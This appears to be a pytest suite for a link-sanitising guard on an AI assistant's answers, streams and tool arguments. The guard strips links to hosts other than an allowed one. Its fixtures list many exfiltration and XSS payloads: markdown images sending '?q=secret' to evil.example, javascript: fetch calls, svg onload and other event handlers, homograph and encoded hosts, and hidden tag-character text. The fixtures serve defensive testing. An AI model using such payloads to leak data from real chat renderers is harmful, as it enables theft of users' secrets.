"""Links and images in answers lead to allowed hosts only, whole and in every stream (S4)."""

import re
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.domain.calls import Reply, Usage
from app.domain.errors import AnswerWithheld
from app.domain.messages import OutputSchema, Text, ToolUse
from app.security.guard import bare_links, rendered
from app.security.guard.links import MOST_LINKS, Links, _as_text
from app.security.guard.outgoing import Outgoing
from app.security.guard.removed import IMAGE_REMOVED, LINK_REMOVED
from app.security.guard.seams import LONGEST_FORM

LINKS = Links(frozenset({"northwind.example"}))
FOREIGN = [
    "https://evil.example/?q=secret",
    "![x](https://evil.example/p.png?q=secret)",
    "![x](<https://evil.example/p q>)",
    "[x](\nhttps://evil.example/a)",
    "[x](//evil.example/a)",
    "[x](\\\\evil.example/a)",
    "[x](https:\\\\evil.example/a)",
    "[x](https:evil.example/a)",
    "[x](https\\://evil.example/a)",
    "[x](https://northwind.example@evil.example/a)",
    "[x](https://evil.example\\@northwind.example/a)",
    "[x](https://northwind.example.evil.example/a)",
    "[x](https://northwind.example%2eevil.example/a)",
    "[x](https://xn--nrthwind-n4a.example/a)",
    "[x](https://northw\u0131nd.example/a)",
    "[x](&#104;ttps://evil.example/a)",
    "[x](&#x68;ttps&colon;//evil.example/a)",
    "[x](ht\ntps://evil.example/a)",
    "[x](java\tscript:alert(1))",
    "[x](javascript:fetch('//evil.example'))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x][1]\n\n[1]: https://evil.example/a\n",
    "<https://evil.example/a>",
    '<img src="https://evil.example/a">',
    "<img src=//evil.example/a",
    "<a href='java&#115;cript:x'>x</a>",
    '<b onmouseover="fetch(1)">x</b>',
    '<div style="background:url(//evil.example)">x</div>',
    "<svg/onload=alert(1)>",
    "www.evil.example/a",
    "evil.example/?q=secret",
    "ftp://evil.example/a",
    "he\u200bre: ht\u200btps://ev\u200bil.example/a",
    "[![x](https://evil.example/1)](https://evil.example/2)",
]


def a_reply(text: str) -> Reply:
    return Reply(parts=(Text(text),), stop="end", usage=Usage(), provider="p", model="m")


KEPT = [
    "See [shipping-times] and [our page](https://northwind.example/help?a=1), or www.northwind.example.",
    "[form](/returns?order=NW-10001) and [here](#top) and ![logo](/logo.png)",
    "Write to support@northwind.example. Call [us](tel:+15550100).",
    "It costs $3.50, i.e. less than 1/2; a < b, 10:30 // 2, **bold** and and/or.That is all.",
    "Note: data: it is kept. [x] is a box, [y]: too.",
    "",
]


@pytest.mark.parametrize("text", FOREIGN)
def test_what_leads_elsewhere_is_taken_out_in_every_form(text: str) -> None:
    cleaned, removed = LINKS.clean(f"Look: {text} and more.")
    assert removed >= 1 or "< img" in cleaned
    for part in ("evil.example", "xn--", "\u0131nd.example", "javascript", "script:", "base64", "onmouse", "onload", "url("):
        assert part not in cleaned.replace("\t", "").replace("\n", "").replace("&#115;", "s")
    assert LINKS.clean(cleaned)[0] == cleaned


@pytest.mark.parametrize("text", KEPT)
def test_what_stays_on_allowed_hosts_stays_as_it_is(text: str) -> None:
    assert LINKS.clean(text) == (text, 0)


@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
@pytest.mark.parametrize("text", [*FOREIGN, *KEPT])
def test_a_stream_says_what_a_whole_answer_says_wherever_it_is_cut(text: str, size: int) -> None:
    whole = f"Look: {text} and more. [shipping-times]"
    outgoing = Outgoing(LINKS, {"foreign-link": "block"})
    out = "".join(outgoing.feed(whole[at : at + size]) for at in range(0, len(whole), size)) + outgoing.end()
    assert "evil" not in out
    assert LINKS.clean(out)[0] == out
    if text in KEPT:
        assert out == whole


def test_a_benign_stream_is_held_back_by_a_word_and_not_more() -> None:
    outgoing = Outgoing(LINKS, {"foreign-link": "block"}, canary="octsatxupggwamyzmcvs", system="You are a helper. " * 9)
    answer = "Standard shipping takes 3 to 5 business days after dispatch."
    out = "".join(outgoing.feed(letter) for letter in answer)
    assert answer.startswith(out)
    assert len(answer) - len(out) <= len("dispatch.")


def test_a_form_that_never_ends_is_not_waited_for() -> None:
    outgoing = Outgoing(LINKS, {"foreign-link": "block"})
    out = outgoing.feed("[" + "word " * 1000)
    assert len(out) > 2000
    assert "evil" not in outgoing.feed("](&#104;ttps&#58;//evil.example/a) ") + outgoing.end()


@pytest.mark.parametrize("form", ["](", "[](", "]:", "![a](b"])
def test_links_in_one_word_without_end_are_not_waited_for(form: str) -> None:
    """V3: all of them were held, and read again at each chunk."""
    outgoing = Outgoing(LINKS, {"foreign-link": "block"})
    longest = 0
    for _ in range(500):
        outgoing.feed(form * 10)
        longest = max(longest, outgoing.held)
    assert longest <= LONGEST_FORM + 200


SEEN = ["foreign-link"]


@pytest.mark.parametrize(
    ("action", "kept", "found"), [("off", True, []), ("log", True, SEEN), ("flag", True, SEEN), ("block", False, SEEN)]
)
def test_policy_says_whether_a_link_is_seen_and_taken_out(action: str, kept: bool, found: list[str]) -> None:
    outgoing = Outgoing(LINKS, {"foreign-link": action})  # type: ignore[dict-item] # one of the four
    reply = outgoing.reply(a_reply("see https://evil.example/x ok"))
    assert ("evil.example" in reply.text) is kept
    assert outgoing.found == found


def test_a_document_stays_a_document() -> None:
    outgoing = Outgoing(LINKS, {"foreign-link": "block"}, output=OutputSchema("t", {}))
    reply = outgoing.reply(a_reply('{"a": "<img src=//evil.example/x>", "b": ["https://evil.example"], "c": 1}'))
    assert reply.text == f'{{"a": "{IMAGE_REMOVED}", "b": ["{LINK_REMOVED}"], "c": 1}}'


def test_a_tool_receives_no_address_either() -> None:
    outgoing = Outgoing(LINKS, {"foreign-link": "block"})
    reply = Reply(
        parts=(ToolUse("1", "hand_over", '{"reason": "see https://evil.example/x"}'),),
        stop="tool_use", usage=Usage(), provider="p", model="m",
    )  # fmt: skip
    assert outgoing.reply(reply).tool_uses[0].arguments == '{"reason": "see (link removed)"}'


def test_a_canary_in_a_tools_arguments_withholds_the_answer() -> None:
    outgoing = Outgoing(LINKS, {"canary": "block"}, canary="octsatxupggwamyzmcvs")
    reply = Reply(
        parts=(ToolUse("1", "hand_over", '{"reason": "octsatxupggwamyzmcvs"}'),),
        stop="tool_use",
        usage=Usage(),
        provider="p",
        model="m",
    )
    with pytest.raises(AnswerWithheld):
        outgoing.reply(reply)


DEEP = '{"a": ' + "[" * 200 + '"h\\u0074tps://evil.example/"' + "]" * 200 + "}"


def test_arguments_nested_too_deeply_to_check_are_withheld_where_a_check_blocks() -> None:
    """The model caused it: the error is typed, not a RecursionError that would end as status 500."""
    use = replace(a_reply("Done."), parts=(ToolUse("u", "get_order", DEEP),))
    with pytest.raises(AnswerWithheld, match="nested too deeply"):
        Outgoing(LINKS, {"foreign-link": "block"}).reply(use)
    assert Outgoing(LINKS, {"foreign-link": "flag"}).reply(use) == use
    with pytest.raises(AnswerWithheld, match="nested too deeply"):
        Outgoing(LINKS, {"foreign-link": "block"}, output=OutputSchema("any", {})).reply(a_reply(DEEP))


# AlexanderMattTurner/agent-sanitizer#126: its flag is no smuggled text
ENGLAND = "\U0001f3f4" + "".join(chr(0xE0000 + ord(letter)) for letter in "gbeng") + "\U000e007f wins"


# microsoft/PyRIT#835, uber/ADR#45: bytes behind an emoji, drawn as nothing; and 8-bit control characters, which terminals obey.
@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("".join(chr(0xE0000 + ord(c)) for c in "secret") + "\U0001f3f4\U000e0067\U000e0062\U000e0078", "\U0001f3f4"),
        ("hi \U0001f600\U000e0158\U000e0155\U000e015c!", "hi \U0001f600!"),
        ("".join(f"{letter}\U000e0101" for letter in "secret"), "secret"),
        ("a\ufe01\ufe02\ufe03b", "ab"),
        ("a\ufff9hidden\ufffb\u206ab", "ahiddenb"),  # anthropics/claude-code-action#1007, BitterSecurity/Decepticon#480
        ("\x9b2Jgone\x9d0;title\x07", "2Jgone0;title"),
    ],
)
def test_bytes_in_selectors_and_control_characters_never_come_out(text: str, shown: str) -> None:
    assert LINKS.clean(text)[0] == shown


@pytest.mark.parametrize(
    "text",
    [
        "\u2764\ufe0f 1\ufe0f\u20e3 \u2600\ufe0e",
        ENGLAND,
        "\u8fbb\U000e0100\u3055\u3093",
        "\u0915\u094d\u200d",
        "a\x85b",
        "don\x92t",
    ],
)
def test_selectors_of_emoji_and_of_japanese_names_stay(text: str) -> None:
    assert LINKS.clean(text) == (text, 0)


@pytest.mark.parametrize(("allowed", "as_text"), [("[a](/b) ", "[a] (/b) "), ("- [a]: /b\n", "- [a] : /b\n")])
def test_more_links_than_are_rendered_become_text(allowed: str, as_text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """V3: to render 10,000 of them took 0.8 s."""
    assert LINKS.clean(allowed * MOST_LINKS) == (allowed * MOST_LINKS, 0)
    monkeypatch.setattr(rendered, "addresses", lambda _: pytest.fail("rendered"))
    assert LINKS.clean(allowed * (MOST_LINKS + 1)) == (as_text * (MOST_LINKS + 1), 1)


@pytest.mark.parametrize("code", range(128))
def test_a_character_of_ascii_is_shown_or_taken_out_alike_in_every_text(code: int) -> None:
    """ASCII is looked through by a table, other text by a pattern."""
    assert LINKS.visible(f"one {chr(code)}\u00e9") == LINKS.visible(f"one {chr(code)}") + "\u00e9"


@pytest.mark.parametrize("sign", ":.\u3002\uff0e\uff61")
def test_each_sign_of_an_address_leads_to_a_closer_look(sign: str) -> None:
    text = f"one {sign}two"
    assert bare_links._TRIGGER.search(text)
    assert [mark for mark, trigger in bare_links._TRIGGERS if trigger.search(text)] == [sign]
    assert not any(trigger.search(f"one{sign} two{sign}") for _, trigger in bare_links._TRIGGERS)


PIECES = (
    *("https", "http", "//", "/", "\\", ":", ".", "evil.example", "northwind.example", "@", "user", "a", "-", "_", " ", "www."),
    *(
        "mailto:",
        "javascript:",
        "data:",
        "text/html,",
        "(",
        "[",
        "<",
        "&#46;",
        "\u3002",
        "\u00e9",
        "$",
        "file:",
        "c:\\",
        "com",
        "?q",
    ),
)


@given(st.lists(st.sampled_from(PIECES), max_size=20).map("".join))
def test_no_address_begins_before_the_place_where_the_next_can(text: str) -> None:
    at = bare_links._may_begin(text, 0, len(text))
    assert str(bare_links._START.search(text, at)) == str(bare_links._START.search(text))


def test_slashes_alone_are_not_searched_for_addresses(monkeypatch: pytest.MonkeyPatch) -> None:
    """V3: in 4 MB of base64 the pattern held the interpreter for 2.4 s."""
    base64 = "QUJD/kZH+IJK/LMN" * 4_000
    assert len(base64) - bare_links._may_begin(f"{base64}a.b", 0, len(base64) + 3) < 10
    monkeypatch.delattr(bare_links, "_START")
    assert LINKS.clean(base64) == (base64, 0)
    assert LINKS.clean(f"/usr/bin/env {base64} C\\D") == (f"/usr/bin/env {base64} C\\D", 0)


@given(st.text("](:![<a/? ", max_size=12))
def test_as_text_has_a_blank_in_each_place_where_a_form_begins(text: str) -> None:
    assert _as_text(text) == re.sub(r"(?<=\])(?=[(:])|(?<=!)(?=\[)|(?<=<)(?=[A-Za-z/!?])", " ", text)


def test_a_text_of_written_characters_without_an_address_is_not_traced_back(monkeypatch: pytest.MonkeyPatch) -> None:
    """V3: two million places of backslashes held the interpreter, though no address was among them."""
    monkeypatch.delattr(bare_links, "accumulate")
    assert LINKS.clean("\\_a &amp; b" * 100) == ("\\_a &amp; b" * 100, 0)


@given(st.lists(st.sampled_from([*PIECES, "&amp;", "\\.", "\\:", "&#58;", "&colon;"]), max_size=12).map("".join))
def test_edits_of_the_written_and_of_the_shown_text_are_made_once_and_in_order(text: str) -> None:
    addresses = LINKS._addresses
    both = {*bare_links._edits(text, addresses), *bare_links._edits_of_the_shown(text, addresses)}
    in_order = sorted(both, key=lambda edit: (edit.start, edit.stop))
    assert bare_links.clean(text, addresses, _no_count) == bare_links._edited(text, in_order, _no_count)


def _no_count() -> None:
    """Nothing is counted."""
